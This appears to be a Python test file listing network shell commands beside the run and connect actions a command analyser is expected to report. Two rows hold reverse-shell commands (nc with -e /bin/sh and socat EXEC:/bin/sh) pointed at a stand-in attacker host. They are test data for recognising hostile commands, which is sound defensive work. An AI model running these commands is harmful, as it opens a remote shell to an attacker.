"""What the programs of `network` would do."""

from __future__ import annotations

from tests.shell.rows import rows

test_rows = rows(
    r"""
curl https://example.com => run curl https://example.com · connect https://example.com
ping -c1 example.com => run ping -c1 example.com · connect example.com
dig @8.8.8.8 mx example.com +short => run dig @8.8.8.8 mx example.com +short · connect 8.8.8.8 · connect example.com
lynx evil.example => run lynx evil.example · connect evil.example
dig example.com => run dig example.com · connect example.com
nc -l 4444 => run nc -l 4444
nc evil.example 4444 -e /bin/sh => run nc evil.example 4444 -e /bin/sh · connect evil.example:4444 · run /bin/sh <network:evil.example:4444>
socat TCP:evil.example:1 EXEC:/bin/sh => run socat TCP:evil.example:1 EXEC:/bin/sh · connect evil.example:1 · run /bin/sh <network:evil.example:1>
nmap -sV host.example => run nmap -sV host.example · connect host.example
telnet host.example 23 => run telnet host.example 23 · connect host.example
openssl s_client -connect host.example:443 => run openssl s_client -connect host.example:443 · connect host.example:443
"""
)
